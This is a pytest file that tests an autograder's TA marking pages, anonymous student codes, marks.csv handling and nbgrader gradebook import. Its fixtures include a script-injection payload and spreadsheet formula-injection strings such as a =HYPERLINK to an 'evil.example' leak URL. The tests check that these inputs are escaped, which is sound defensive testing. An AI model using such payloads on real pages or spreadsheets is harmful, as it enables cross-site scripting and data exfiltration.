"""Written answers marked by TAs (autograder/written.py): the rubric, the pages, marks.csv,
the anonymous codes, read_marks and nbgrader's gradebook.

The class: notebooks made from the source notebook with the answers edited (one hostile),
the released notebook untouched, a .py, a file that is not JSON and a notebook whose
nbgrader metadata was stripped (as Colab and copy-paste do).
"""
import copy
import csv
import dataclasses
import io
import re

import pytest

from conftest import ROOT, run_cli
from nbgrader_course import cell_with_id, make_course, nbgrader, nbgrader_meta, read, write

from autograder import written
from autograder.cli import main
from autograder.course import load_course
from autograder.errors import ConfigError
from autograder.written import MarksError, Mark, read_codes, read_marks, rubric, with_codes

ASSIGNMENT = "ch04_activation"
SOURCE = ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
RELEASE = ROOT / "assignments" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
PARTS = ("answer_q1", "answer_q2")
HOSTILE = ('<script id="pwned">document.title="pwned"</script></textarea><b id="bold">x</b>\n'
           '=HYPERLINK("http://evil.example/?leak","click")\n'
           '    kept indented: $h(h(h(x))) = c^3 x$')
OWN_Q1 = "線形関数の合成は線形なので1層と同じ。XOR が解けない。"
ROSTER = {"s001_yamada": "山田 太郎", "s002_nakamura": "中村 花子", "s003_suzuki": "鈴木 一郎",
          "s004_tanaka": "田中 次郎", "s005_kato": "加藤 三郎", "s006_sato": "佐藤 四郎",
          "s008_hayashi": "林 五郎"}


def answered(notebook, **texts):
    notebook = copy.deepcopy(notebook)
    for part, text in texts.items():
        cell_with_id(notebook, part)["source"] = text
    return notebook


def make_class(folder):
    """folder/<student>.* -> {student: what the pages must say of each part}."""
    folder.mkdir(parents=True, exist_ok=True)
    solution, release = read(SOURCE), read(RELEASE)
    model_q2 = "".join(cell_with_id(solution, "answer_q2")["source"])
    write(folder / "s001_yamada.ipynb", answered(solution, answer_q1=HOSTILE))
    write(folder / "s002_nakamura.ipynb",
          answered(solution, answer_q1=OWN_Q1.splitlines(keepends=True), answer_q2="YOUR ANSWER HERE"))
    write(folder / "s003_suzuki.ipynb", release)
    (folder / "s004_tanaka.py").write_text("def sigmoid(x):\n    return x\n", encoding="utf-8")
    (folder / "s005_kato.ipynb").write_text('{"cells": [{"cell_type": "markdown", "source": "', encoding="utf-8")
    stripped = answered(solution, answer_q1="metadata gone")
    for cell in stripped["cells"]:
        cell["metadata"] = {}
    write(folder / "s006_sato.ipynb", stripped)
    return {"s001_yamada": (HOSTILE, model_q2.strip("\n")), "s002_nakamura": (OWN_Q1, "not answered"),
            "s003_suzuki": ("not answered", "not answered"),
            "s004_tanaka": ("a script (.py) has no answer cells",) * 2,
            "s005_kato": ("not a notebook",) * 2, "s006_sato": ("answer cell not found",) * 2}


def run(*args):
    status = main(["written", ASSIGNMENT, *map(str, args)])
    return status


def marks_rows(out):
    return list(csv.DictReader(io.StringIO((out / "written" / "marks.csv").read_text(encoding="utf-8-sig"))))


def write_marks(out, rows, name="marks.csv", encoding="utf-8-sig"):
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=["student", "question", "points", "comment"], lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    (out / "written" / name).write_bytes(buffer.getvalue().encode(encoding))


def articles(page):
    """{id attribute: inner HTML} of a page's answers."""
    return dict(re.findall(r'<article class="\w+" id="(\w+)">(.*?)</article>', page, re.S))


@pytest.fixture
def klass(tmp_path):
    expected = make_class(tmp_path / "subs")
    return tmp_path / "subs", tmp_path / "graded", expected


# ----- pages and marks ---------------------------------------------------------------------

def test_pages_show_every_answer_or_why_there_is_none(klass):
    subs, out, expected = klass
    assert run(subs, "--out", out) == 0
    codes = {student: code for code, student in read_codes(out / "written").items()}
    assert sorted(codes) == sorted(expected)
    for index, part in enumerate(PARTS):
        page = (out / "written" / f"{part}.html").read_text(encoding="utf-8")
        shown = articles(page)
        assert list(shown) == sorted(codes.values())                     # in the codes' order
        for student, texts in expected.items():
            assert written.escape.html(texts[index]) in shown[codes[student]], (part, student)
    assert sorted((row["student"], row["question"], row["points"], row["comment"]) for row in marks_rows(out)) == \
        sorted((code, part, "", "") for code in codes.values() for part in PARTS)


def test_a_hostile_answer_is_text(klass):
    subs, out, _ = klass
    run(subs, "--out", out)
    page = (out / "written" / "answer_q1.html").read_text(encoding="utf-8")
    assert "<script" not in page and "</textarea>" not in page and '<b id="bold">' not in page
    assert "&lt;script id=&quot;pwned&quot;&gt;" in page and "&lt;/textarea&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.example/?leak&quot;,&quot;click&quot;)" in page
    assert "http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\"" in page


def test_marks_round_trip_and_a_rerun_keeps_marks_and_codes(klass):
    subs, out, _ = klass
    run(subs, "--out", out)
    codes = {student: code for code, student in read_codes(out / "written").items()}
    filled = {("s001_yamada", "answer_q1"): ("1.5", '=HYPERLINK("http://x","y") 例が足りない'),
              ("s002_nakamura", "answer_q1"): ("2", "good\nsecond line"),
              ("s003_suzuki", "answer_q1"): ("0", "not answered"), ("s003_suzuki", "answer_q2"): ("0", "")}
    by_code = {code: student for student, code in codes.items()}
    rows = [dict(row) for row in marks_rows(out)]
    for row in rows:
        row["points"], row["comment"] = filled.get((by_code[row["student"]], row["question"]), ("", ""))
    write_marks(out, rows, encoding="cp932")                               # saved by Excel on Windows
    before = (out / "written" / "marks.csv").read_bytes()

    expected = {student: {part: (float(filled[student, part][0]) if (student, part) in filled else None,
                                 filled.get((student, part), ("", ""))[1]) for part in PARTS} for student in codes}
    marks = read_marks(out, load_course().assignment(ASSIGNMENT))
    assert {s: {p: (m.points, m.comment) for p, m in parts.items()} for s, parts in marks.items()} == expected
    assert re.fullmatch(r"marks\.csv line \d+", marks["s001_yamada"]["answer_q1"].source)

    assert run(subs, "--out", out) == 0                                   # nothing new: the file is not touched
    assert (out / "written" / "marks.csv").read_bytes() == before

    newcomer = subs / "s007_ito.ipynb"
    write(newcomer, answered(read(SOURCE), answer_q1="late answer"))
    assert run(subs, "--out", out) == 0
    again = {student: code for code, student in read_codes(out / "written").items()}
    assert {s: c for s, c in again.items() if s != "s007_ito"} == codes       # old codes kept
    assert again["s007_ito"] not in codes.values()
    marks = read_marks(out, load_course().assignment(ASSIGNMENT))
    assert {s: {p: (m.points, m.comment) for p, m in parts.items()} for s, parts in marks.items()} == \
        {**expected, "s007_ito": {part: (None, "") for part in PARTS}}
    text = (out / "written" / "marks.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and not any(line.startswith("=") for line in text.splitlines())


def test_anonymous_by_default_and_names_on_request(klass, tmp_path):
    subs, out, expected = klass
    for version in ("s008_hayashi_v1", "s008_hayashi_v2"):      # which is the submission? (named in the reason)
        write(subs / "s008_hayashi" / ASSIGNMENT / f"{version}.ipynb", read(SOURCE))
    config = tmp_path / "course_config.py"
    config.write_text((ROOT / "course_config.py").read_text(encoding="utf-8")
                      .replace("ROSTER = None", 'ROSTER = "roster.csv"', 1), encoding="utf-8")
    (tmp_path / "roster.csv").write_text("student_id,name\n" + "".join(f"{s},{n}\n" for s, n in ROSTER.items()),
                                         encoding="utf-8")
    assert run(subs, "--out", out, "--config", config) == 0
    shown = [path.read_text(encoding="utf-8") + path.name for path in (out / "written").glob("*")
             if not path.name.startswith(".")]
    assert len(shown) == 3                                   # two pages and marks.csv
    for text in shown:
        for student, name in ROSTER.items():
            for fragment in (student, student.split("_")[1], name, name.split()[0]):
                assert fragment not in text
    assert run(subs, "--out", tmp_path / "named", "--names", "--config", config) == 0
    page = (tmp_path / "named" / "written" / "answer_q1.html").read_text(encoding="utf-8")
    assert "s008_hayashi_v1.ipynb" in page
    for student, name in ROSTER.items():
        assert f"<h2>{student}<span class=\"name\">{name}</span></h2>" in page
    assert {row["student"] for row in marks_rows(tmp_path / "named")} == set(ROSTER)


def test_codes_keep_the_old_ones_and_say_nothing_of_the_ids():
    students = [f"s{n:03d}" for n in range(1, 13)]
    codes = with_codes({}, students)
    assert sorted(codes.values()) == students and all(re.fullmatch(r"[A-Z]+\d\d", code) for code in codes)
    in_code_order = [codes[code] for code in sorted(codes)]
    assert in_code_order != students                          # a shuffle sorts 12 ids with p = 1/12! ≈ 2e-9
    reversed_codes = with_codes({}, students, shuffle=list.reverse)      # the codes follow the shuffled order
    assert [reversed_codes[code] for code in sorted(reversed_codes)] == students[::-1]
    more = with_codes(codes, students + ["s100"])
    assert {code: more[code] for code in codes} == codes and set(more.values()) == {*students, "s100"}
    assert "A13" in more                                                 # the next unused code
    looking_like_codes = with_codes({}, ["A01", "A02", "s1"])
    assert not set(looking_like_codes) & {"A01", "A02"}                 # no code is also someone's id
    assert [written.code_name(n) for n in (0, 98, 99, 26 * 99, 27 * 99)] == ["A01", "A99", "B01", "AA01", "AB01"]


def test_an_id_that_is_another_students_code_is_written_as_its_own_code(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    write(subs / "s001.ipynb", answered(read(SOURCE), answer_q1="first"))
    assert run(subs, "--out", out) == 0                                   # s001 is A01
    write(subs / "A01.ipynb", answered(read(SOURCE), answer_q1="second"))
    assert run(subs, "--out", out, "--names") == 0
    assert read_codes(out / "written") == {"A01": "s001", "A02": "A01"}
    rows = marks_rows(out)
    assert [(row["student"], row["question"]) for row in rows][-2:] == [("A02", "answer_q1"), ("A02", "answer_q2")]
    for row in rows:
        row["points"] = "1" if row["student"] == "A01" else "2"
    write_marks(out, rows)
    marks = read_marks(out, load_course().assignment(ASSIGNMENT))
    assert {student: {part: mark.points for part, mark in parts.items()} for student, parts in marks.items()} == \
        {"s001": dict.fromkeys(PARTS, 1.0), "A01": dict.fromkeys(PARTS, 2.0)}


def test_a_hostile_student_id_is_text_in_the_csv_files(tmp_path):
    evil = '=HYPERLINK("evil.example","x")'
    subs = tmp_path / "subs"
    write(subs / f"{evil}.ipynb", answered(read(SOURCE)))
    assert run(subs, "--out", tmp_path / "out", "--names") == 0
    for name in ("marks.csv", ".codes.csv"):
        text = (tmp_path / "out" / "written" / name).read_text(encoding="utf-8-sig")
        assert f"'{evil}".replace('"', '""') in text and "\n=" not in text, name
    rows = marks_rows(tmp_path / "out")
    rows[0]["points"] = "1"
    write_marks(tmp_path / "out", rows)
    assert read_marks(tmp_path / "out", load_course().assignment(ASSIGNMENT))[evil][rows[0]["question"]].points == 1


# ----- read_marks: every problem names the file and line ------------------------------------

CODES_CSV = "code,student\r\nA01,s001\r\nA02,s002\r\nA03,A01\r\n"     # A03: a student whose id looks like a code
BAD = {    # name: (marks.csv, marks_nbgrader.csv or None, file named, line named, words in the message)
    "unknown code": ("A01,answer_q1,1,\nZ99,answer_q1,1,\n", None, "marks.csv", 3, "unknown student or code 'Z99'"),
    "unknown id": ("s999,answer_q1,1,\n", None, "marks.csv", 2, "unknown student or code 's999'"),
    "unknown question": ("A01,answer_q9,1,\n", None, "marks.csv", 2, "unknown question 'answer_q9'"),
    "not a number": ("A01,answer_q1,1,\nA02,answer_q1,one,\n", None, "marks.csv", 3, "'one' is not a number"),
    "too many points": ("A01,answer_q1,2.5,\n", None, "marks.csv", 2, "outside 0..2"),
    "negative": ("A01,answer_q1,-1,\n", None, "marks.csv", 2, "outside 0..2"),
    "not finite": ("A01,answer_q1,nan,\n", None, "marks.csv", 2, "outside 0..2"),
    "twice": ("A01,answer_q1,1,\nA02,answer_q1,,\nA01,answer_q1,,\n", None, "marks.csv", 4, "second row"),
    "twice, code and id": ("A01,answer_q1,1,\ns001,answer_q1,1,\n", None, "marks.csv", 3, "second row"),
    "after a comment of two lines": ('A01,answer_q1,1,"one\ntwo"\nA02,answer_q1,x,\n', None, "marks.csv", 4,
                                     "not a number"),
    "files disagree": ("A01,answer_q1,1,\n", "s002,answer_q1,2,\ns001,answer_q1,2,\n", "marks_nbgrader.csv", 3,
                       "but marks.csv line 2 gives 1"),
    "nbgrader file twice": ("", "s001,answer_q2,1,\ns001,answer_q2,1,\n", "marks_nbgrader.csv", 3, "second row"),
    "nbgrader file, outside": ("", "s001,answer_q2,3,\n", "marks_nbgrader.csv", 2, "outside 0..2"),
}


def graded_with(folder, marks, nbgrader_marks=None):
    (folder / "written").mkdir(parents=True)
    (folder / "written" / ".codes.csv").write_text(CODES_CSV, encoding="utf-8")
    (folder / "written" / "marks.csv").write_text("student,question,points,comment\n" + marks, encoding="utf-8")
    if nbgrader_marks is not None:
        (folder / "written" / "marks_nbgrader.csv").write_text("student,question,points,comment\n" + nbgrader_marks,
                                                                 encoding="utf-8")
    return folder


@pytest.mark.parametrize("case", list(BAD))
def test_every_problem_of_the_marks_names_file_and_line(case, tmp_path):
    marks, nbgrader_marks, name, line, words = BAD[case]
    graded_with(tmp_path, marks, nbgrader_marks)
    with pytest.raises(MarksError) as raised:
        read_marks(tmp_path, load_course().assignment(ASSIGNMENT))
    assert f"{tmp_path / 'written' / name}, line {line}:" in str(raised.value)
    assert words in str(raised.value)


def test_marks_pending_agreeing_and_missing(tmp_path):
    assignment = load_course().assignment(ASSIGNMENT)
    assert read_marks(tmp_path, assignment) == {}                          # no files: no marks
    graded_with(tmp_path, "A01,answer_q1,1.5,ok\nA01,answer_q2,,\nA02,answer_q1,,looked\n"
                          "A03,answer_q1,0,blank\n\n,,,\n",
                "s001,answer_q1,1.5,from formgrader\ns002,answer_q1,2,\ns002,answer_q2,,\nA01,answer_q2,1,\n")
    assert read_marks(tmp_path, assignment) == {
        "A01": {"answer_q1": Mark(0.0, "blank", "marks.csv line 5"),            # the student A01 (code A03),
                "answer_q2": Mark(1.0, "", "marks_nbgrader.csv line 5")},        # not the code A01
        "s001": {"answer_q1": Mark(1.5, "ok / from formgrader", "marks.csv line 2"),
                 "answer_q2": Mark(None, "", "marks.csv line 3")},
        "s002": {"answer_q1": Mark(2.0, "looked", "marks_nbgrader.csv line 3"),
                 "answer_q2": Mark(None, "", "marks_nbgrader.csv line 4")}}


def test_a_broken_marks_file_stops_the_command_after_the_pages(klass, cli):
    subs, out, _ = klass
    run(subs, "--out", out)
    rows = marks_rows(out)
    rows[3]["points"] = "lots"
    write_marks(out, rows)
    before = (out / "written" / "marks.csv").read_bytes()
    done = cli("written", ASSIGNMENT, subs, "--out", out)
    assert done.returncode == 2
    assert "marks.csv, line 5: points 'lots' is not a number" in done.stderr
    assert "? of 6 marked" in done.stdout
    assert (out / "written" / "marks.csv").read_bytes() == before          # the TAs' file is kept as it is


def test_usage_errors(tmp_path, cli):
    done = cli("written", ASSIGNMENT)
    assert done.returncode == 2 and "SUBMISSIONS" in done.stderr
    done = cli("written", "ch04_gradient", tmp_path)
    assert done.returncode == 2 and "no written parts" in done.stderr
    done = cli("written", ASSIGNMENT, "--from-gradebook", tmp_path / "gradebook.db", "--out", tmp_path / "out")
    assert done.returncode == 2 and "no such gradebook" in done.stderr
    assert not (tmp_path / "gradebook.db").exists() and not (tmp_path / "out").exists()


# ----- answers ------------------------------------------------------------------------------

def test_answers_are_read_from_any_cell_with_the_grade_id_and_nothing_else(tmp_path, monkeypatch):
    notebook = answered(read(SOURCE), answer_q1=["first ", "line\n", "second"])
    q2 = cell_with_id(notebook, "answer_q2")
    q2["cell_type"], q2["source"] = "raw", "raw answer"
    notebook["cells"].append(copy.deepcopy(cell_with_id(notebook, "answer_q1")) | {"source": "YOUR ANSWER HERE"})
    notebook["cells"].append({"cell_type": "markdown", "metadata": {"nbgrader": "not a dict"}, "source": "x"})
    write(tmp_path / "a.ipynb", notebook)
    found = written.answers(tmp_path / "a.ipynb", PARTS)
    assert (found["answer_q1"].text, found["answer_q2"].text) == ("first line\nsecond", "raw answer")

    cases = {"deep.ipynb": "[" * 100_000, "latin1.ipynb": b'{"cells": ["\xe9"]}', "empty.ipynb": "",
             "list.ipynb": "[1, 2]", "cells.ipynb": '{"cells": 3}'}
    for name, content in cases.items():
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        found = written.answers(path, PARTS)
        assert all(answer.kind == "unreadable" and answer.reason for answer in found.values()), name
        assert str(tmp_path) not in found["answer_q1"].reason
    monkeypatch.setattr(written, "LARGEST_NOTEBOOK", (tmp_path / "a.ipynb").stat().st_size - 1)
    assert written.answers(tmp_path / "a.ipynb", PARTS)["answer_q1"].reason.startswith("the notebook is larger than")


# ----- rubric --------------------------------------------------------------------------------

def test_rubric_problems_name_the_file_and_part(tmp_path):
    assignment = dataclasses.replace(load_course().assignment(ASSIGNMENT), graders_root=tmp_path)
    folder = tmp_path / ASSIGNMENT
    folder.mkdir()
    good = (ROOT / "autograder" / "graders" / ASSIGNMENT / "written.toml").read_text(encoding="utf-8")
    with pytest.raises(ConfigError, match=r"written\.toml: missing"):
        rubric(assignment)
    cases = {"[answer_q3] is not a written part of ch04_activation":
                 good + '\n[answer_q3]\ntitle = {ja = "a", en = "b"}\n',
             "[answer_q2] the criteria's points add up to 1.75, but course_config.py gives the part 2":
                 good.replace("points = 0.5", "points = 0.25", 1),
             "[answer_q1] criterion 2 must have points, ja and en": good.replace(
                 'en = """What is lost', 'english = """What is lost', 1),
             "[answer_q1] title must have a non-empty ja and en": re.sub(r"title\.en = .*\n", "", good, count=1),
             "cannot be read": good + "\n[[[",
             "[answer_q2] is missing": good[:good.index("[answer_q2]")]}
    for words, text in cases.items():
        (folder / "written.toml").write_text(text, encoding="utf-8")
        with pytest.raises(ConfigError) as raised:
            rubric(assignment)
        assert str(folder / "written.toml") in str(raised.value) and words in str(raised.value), words


# ----- the contract of every assignment with written parts ----------------------------------

def test_every_written_part_has_a_rubric_and_an_answer_cell_of_its_points(course):
    graded_by_hand = [a for a in course.assignments.values() if a.written]
    assert graded_by_hand, "no assignment has written parts: is course_config.py's 'written' gone?"
    for assignment in course.assignments.values():
        parts = rubric(assignment)                          # ConfigError when it disagrees with the config
        assert {part: p.points for part, p in parts.items()} == {k: float(v) for k, v in assignment.written.items()}
        assert (assignment.graders / "written.toml").exists() == bool(assignment.written), assignment.id
        notebook = read(ROOT / "solutions" / assignment.id / f"{assignment.id}.ipynb")
        for part, points in assignment.written.items():
            meta = nbgrader_meta(cell_with_id(notebook, part))
            assert (meta.get("grade"), meta.get("solution"), meta.get("points")) == (True, True, points), \
                f"{assignment.id}: the answer cell {part} must be graded, a solution and worth {points} points"


# ----- the page in a browser ------------------------------------------------------------------

def test_a_page_in_chromium(klass, browser, tmp_path):
    subs, out, expected = klass
    run(subs, "--out", out)
    codes = {student: code for code, student in read_codes(out / "written").items()}
    browser.get((out / "written" / "answer_q1.html").as_uri())
    browser.save_screenshot(str(tmp_path / "answer_q1.png"))                  # for a person to look at
    assert not [entry for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
    fetched = browser.execute_script("return performance.getEntriesByType('resource').map(r => r.name)")
    assert all(name.startswith("data:") for name in fetched), fetched
    assert browser.title.startswith(f"{ASSIGNMENT} answer_q1") and "pwned" not in browser.title
    assert not browser.find_elements("id", "pwned") and not browser.find_elements("id", "bold")
    assert "採点基準 / Rubric" in browser.find_element("css selector", "section.rubric").text
    for student, (q1, _) in expected.items():
        article = browser.find_element("id", codes[student])
        assert article.is_displayed() and q1.splitlines()[0] in article.text, student
    hostile = browser.find_element("css selector", f"#{codes['s001_yamada']} .answer")
    assert hostile.get_attribute("textContent") == HOSTILE                     # every character, spaces kept
    assert browser.execute_script("return getComputedStyle(arguments[0]).whiteSpace", hostile) == "pre-wrap"


# ----- nbgrader's gradebook, for real ----------------------------------------------------------

@pytest.mark.nbgrader
def test_marks_from_nbgrader_gradebook(tmp_path):
    from nbgrader.api import Gradebook

    (tmp_path / "course").mkdir()
    course = make_course(tmp_path / "course")
    nbgrader(course, "generate_assignment", ASSIGNMENT)
    release = read(course / "assignments" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    submitted = course / "nbgrader_work" / "submitted"
    write(submitted / "s001" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb",
          answered(release, answer_q1="線形の合成は線形", answer_q2="0.25**10 は小さい"))
    write(submitted / "s002" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", answered(release, answer_q1="XOR"))
    nbgrader(course, "autograde", ASSIGNMENT)
    database = course / "nbgrader_work" / "gradebook.db"
    with Gradebook(f"sqlite:///{database}", course_id=load_course().id) as gradebook:      # as formgrader does
        for student, part, points, comment in (("s001", "answer_q1", 1.5, "=例がない"),
                                               ("s002", "answer_q1", 2.0, None)):
            gradebook.find_grade(part, ASSIGNMENT, ASSIGNMENT, student).manual_score = points
            gradebook.find_comment(part, ASSIGNMENT, ASSIGNMENT, student).manual_comment = comment
        gradebook.db.commit()

    out = tmp_path / "graded"
    done = run_cli("written", ASSIGNMENT, "--from-gradebook", database, "--out", out)
    assert done.returncode == 0, done.stderr
    assert "3 of 4 answers marked in the gradebook" in done.stdout
    text = (out / "written" / "marks_nbgrader.csv").read_text(encoding="utf-8-sig")
    assert "'=例がない" in text
    marks = read_marks(out, load_course().assignment(ASSIGNMENT))
    assert {s: {p: (m.points, m.comment) for p, m in parts.items()} for s, parts in marks.items()} == {
        "s001": {"answer_q1": (1.5, "=例がない"), "answer_q2": (None, "")},         # answered, not graded yet
        "s002": {"answer_q1": (2.0, ""), "answer_q2": (0.0, "No response.")}}   # left blank: nbgrader's own 0

    done = run_cli("written", ASSIGNMENT, submitted, "--out", out, "--from-gradebook", f"sqlite:///{database}")
    assert done.returncode == 0, done.stderr
    assert "answer_q1: 2 answered, 0 not answered, 2 of 2 marked" in done.stdout
    assert "answer_q2: 1 answered, 1 not answered, 1 of 2 marked" in done.stdout
